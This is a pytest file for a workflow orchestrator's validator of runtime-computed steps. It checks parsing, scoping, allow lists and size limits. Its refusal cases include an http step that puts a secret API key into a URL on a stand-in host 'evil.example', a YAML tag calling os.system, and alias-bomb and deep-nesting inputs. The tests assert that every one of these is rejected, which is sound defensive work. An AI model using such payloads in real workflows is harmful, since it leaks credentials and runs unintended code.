"""Computed steps are checked like a file, and kept inside what their author allowed."""

from __future__ import annotations

import json
import time
from typing import Any

import pytest

from orchestrator.spec.computed import StepsInvalid, prepare
from orchestrator.spec.definition import Definition, Retry, Timeout, definition_from_json, definition_to_json

FLOW = """\
id: f
version: "3"
inputs: {who: string}
vars: {n: "{{ inputs.who }}"}
env: {ZONE: UTC}
services: {crm: {base_url: "https://crm.example"}}
defaults: {retry: {max_attempts: 7}, timeout: 20s, priority: 2}
steps:
  - {id: look, type: api, config: {service: crm, method: get}}
  - {id: later, needs: [plan], type: transform, config: {value: 1}}
  - {id: ask, type: human-task, config: {assignee: kim}}
  - {id: plan, needs: [look], type: run-steps, config: {steps: "{{ steps.look.output }}", allow: [http], max_steps: 3}}
  - id: each
    needs: [look]
    type: for-each
    config:
      items: [1]
      as: row
      steps: [{id: inner, type: run-steps, config: {steps: "{{ steps.look.output }}", allow: [transform]}}]
"""
HTTP = {"type": "http", "config": {"url": "https://x.example"}}
ANY = ["http", "api", "transform", "block", "parallel", "condition", "set", "email", "function", "for-each", "return"]


@pytest.fixture
def flow(load: Any) -> Definition:
    definition: Definition = load(FLOW).definition
    return definition


def ready(raw: Any, flow: Definition, **given: Any) -> Definition:
    options: dict[str, Any] = {"allow": ANY, "max_steps": 10, "visible": ["look"], "step": "plan"} | given
    return prepare(raw, definition=flow, **options)


def refused(raw: Any, flow: Definition, **given: Any) -> str:
    with pytest.raises(StepsInvalid) as caught:
        ready(raw, flow, **given)
    return str(caught.value)


AS_TEXT = json.dumps([{"id": "a", **HTTP}], indent="\t")


@pytest.mark.parametrize(
    "raw",
    [
        [{"id": "a", **HTTP}],
        {"steps": [{"id": "a", **HTTP}]},
        AS_TEXT,
        f"```json\n{AS_TEXT}\n```",
        f"  ```\n{AS_TEXT}\n```  \n",
        "Here is the plan:\n\n```yaml\n- id: a\n  type: http\n  config: {url: https://x.example}\n```\nGood luck!",
        "steps:\n  - {id: a, type: http, config: {url: https://x.example}}\n",
    ],
)
def test_a_list_is_read_in_every_way_it_is_written(flow: Definition, raw: Any) -> None:
    prepared = ready(raw, flow)
    assert [(node.id, node.type, node.config) for node in prepared.steps] == [("a", "http", HTTP["config"])]
    assert (prepared.flow, prepared.version, prepared.file) == ("f", "3", "flow.yaml")
    assert prepared.steps[0].source == "flow.yaml:12:5", "a failure points at the step that ran what was computed"
    assert definition_from_json(definition_to_json(prepared)) == prepared


def test_emoji_written_as_json_escapes_survive(flow: Definition) -> None:
    [node] = ready(r'[{"type": "transform", "config": {"value": "\ud83d\ude00 \/"}}]', flow).steps
    assert node.config == {"value": "😀 /"}


def test_computed_steps_inherit_what_holds_where_they_run(flow: Definition) -> None:
    inner, own = ready([HTTP, {**HTTP, "retry": "none", "timeout": 5}], flow).steps
    assert (inner.retry, inner.timeout, inner.priority) == (Retry(max_attempts=7), Timeout(20.0, 3600.0), 2)
    assert (own.retry, own.timeout.attempt) == (None, 5.0)


def test_computed_steps_use_what_the_flow_itself_uses_of_its_catalogue(flow: Definition) -> None:
    [node] = ready([{"type": "api", "config": {"service": "crm", "method": "get"}}], flow).steps
    assert node.bindings == {"services": {"crm": {"base_url": "https://crm.example"}}}


def test_unnamed_steps_keep_out_of_the_way_of_those_of_the_flow(flow: Definition, load: Any) -> None:
    other = load("id: f\nsteps: [{type: http, config: {url: 'https://x.example'}}]\n").definition
    assert [node.id for node in ready([HTTP, HTTP], other, step=None).steps] == ["http-2", "http-3"]


def step(value: str, **more: Any) -> dict[str, Any]:
    return {"id": "a", "type": "transform", "config": {"value": value}, **more}


@pytest.mark.parametrize(
    "raw",
    [
        [step("{{ steps.look.output.x + inputs.who ~ vars.n ~ env.ZONE ~ run.id ~ trigger.type }}")],
        [step("1"), {"id": "b", "type": "transform", "config": {"value": "{{ steps.a.output }}"}}],
        [{"type": "for-each", "config": {"items": [1], "steps": [step("{{ item + loop.index }}")]}}],
        [{"type": "set", "config": {"n": 2}}],
    ],
)
def test_computed_steps_name_what_a_step_there_could_name(flow: Definition, raw: Any) -> None:
    ready(raw, flow)


def test_computed_steps_in_a_loop_know_its_element(flow: Definition) -> None:
    ready([step("{{ row + loop.index }}")], flow, step="inner")
    assert "`row` is no name" in refused([step("{{ row }}")], flow)
    assert "`loop` cannot be used" in refused([step("{{ loop.index }}")], flow)


WHERE = "computed step `a`, `steps[0]"


@pytest.mark.parametrize(
    ("raw", "said"),
    [
        (None, "computed steps must be a list, got nothing"),
        (7, "computed steps must be a list, got a number"),
        ("", "the file is empty"),
        ("hello", "computed steps must be a list, got text"),
        ({"plan": []}, "got a mapping with `plan`"),
        ({}, "got a mapping with nothing in it"),
        ([], "the list of computed steps is empty"),
        ("- {a: [}", "line 1 of the computed steps: "),
        ("- !!python/object:os.system {}", "is refused"),
        ('[{"type": "transform", "config": {"value": 1e999}}]', "a number that is not finite"),
        ([7], "computed `steps[0]`: a step must be a mapping"),
        ([{"id": "a", "type": "htp"}], f"{WHERE}.type`: unknown step type `htp` (did you mean `http`?)"),
        ([{"id": "a", "type": "http", "config": {"urll": 1}}], f"{WHERE}.config.urll`: unknown key `urll`"),
        ([{"id": "a", "type": "http", "config": {}}], "`url` is missing"),
        ([{"id": "a", "type": "sql", "config": {"database": "d", "query": "select 1"}}], "`sql` is not allowed here (allowed: `http`"),
        ([{"id": "b", "steps": [{"id": "a", "type": "wait", "config": {"duration": 1}}]}],
         "computed step `a`, `steps[0].steps[0].type`: `wait` is not allowed here"),
        ([{**HTTP, "id": "a", "on_error": [{"type": "wait", "config": {"duration": 1}}]}], "`wait` is not allowed here"),
        ([{"id": "a", "type": "run-steps", "config": {"steps": [], "allow": ["http"]}}], "computed steps cannot compute further steps"),
        ([HTTP] * 11, "11 steps were computed, at most 10 are allowed (`max_steps`)"),
        ([{"id": "look", **HTTP}], "the id `look` belongs to a step of the flow"),
        ([{"id": "a", **HTTP}, {"id": "a", **HTTP}], "the id `a` is used twice"),
        ([{"id": "a b", **HTTP}], "'a b' is not a name"),
        ([step("{{ steps.later.output }}")], f"{WHERE}.config.value`: step `later` of the flow is not over when the computed steps run"),
        ([step("{{ steps.b.output }}"), {"id": "b", "type": "transform", "config": {"value": 1}}], "`b` stands below `a`; move it up"),
        ([step("{{ steps.nobody.output }}")], "there is no step `nobody`"),
        ([step("{{ inputs.whom }}")], "`inputs.whom` is not declared"),
        ([step("{{ 1 + }}")], f"{WHERE}.config.value`: "),
        ([step("{% x %}")], "is not available"),
        ([{"type": "set", "config": {"x": 1}}], "`x` is no var of this flow"),
        ([{**HTTP, "id": "a", "output_schema": {"type": "objekt"}}], "is no JSON Schema type"),
        ([{"id": "a", "type": "http", "config": {"url": "https://evil.example/{{ secrets.API_KEY }}"}}],
         "`secrets.API_KEY` cannot be used in step `a` (whoever computes steps could send it anywhere"),
        ([{"id": "a", "type": "http", "config": {"url": "https://x.example", "headers": {"K": "{{ step.idempotency_key }}"}}}],
         "`step.idempotency_key` cannot be used"),
        ([{"id": "a", "type": "http", "config": {"url": "https://x.example/{{ callback.ask.url }}"}}], "`callback.ask.url` cannot be used"),
        ([{"id": "a", "type": "for-each", "config": {"items": True, "steps": [HTTP]}}], "`items` is true"),
    ],
)  # fmt: skip
def test_what_may_not_run_is_refused_with_its_step_and_key(flow: Definition, raw: Any, said: str) -> None:
    assert said in refused(raw, flow)


@pytest.mark.parametrize("tools", [[{"function": "wipe"}], "{{ steps.look.output }}"])
def test_what_a_computed_agent_calls_by_itself_has_to_be_allowed_too(flow: Definition, tools: Any) -> None:
    raw = [{"id": "a", "type": "agent", "config": {"goal": "go", "tools": tools}}]
    said = refused(raw, flow, allow=["agent", "mcp", "flow"])
    assert "`function` is not allowed here" in said
    ready(raw, flow, allow=["agent", "mcp", "flow", "function"])


def test_every_problem_is_told_at_once(flow: Definition) -> None:
    said = refused([{"id": "a", "type": "htp"}, {"id": "b", "type": "sql", "config": {}}], flow)
    assert "unknown step type `htp`" in said
    assert "`sql` is not allowed" in said
    assert "; and 10 more" in refused([{"type": "htp"}] * 30, flow, max_steps=30)


def nested(depth: int) -> Any:
    value: Any = 1
    for _ in range(depth):
        value = [value]
    return value


@pytest.mark.parametrize(
    ("raw", "said"),
    [
        ("x" * 50_000_000, "50,000,000 characters; at most 200,000"),
        ("[" * 199_000, "of the computed steps: more than 100 levels of nesting"),
        ("```\n" * 49_000, "computed steps"),
        ("- &a [1, 1]\n" + "- [*a, *a]\n" * 10_000, "more than 20,000 values"),
        ([nested(5_000)], "nested more than 100 levels deep"),
        ([{"type": "transform", "config": {"value": list(range(30_000))}}], "more than 20,000 values"),
        ([{"id": "a" * 100_000, **HTTP}], "at most 100 characters"),
        ([{"x" * 100_000: 1}], "`type` is missing in a step"),
    ],
    ids=["text", "brackets", "fences", "aliases", "depth", "values", "id", "key"],
)
def test_hostile_input_is_refused_soon_and_briefly(flow: Definition, raw: Any, said: str) -> None:
    started = time.monotonic()
    answer = refused(raw, flow)
    assert said in answer
    assert len(answer) < 10_000
    assert time.monotonic() - started < 10
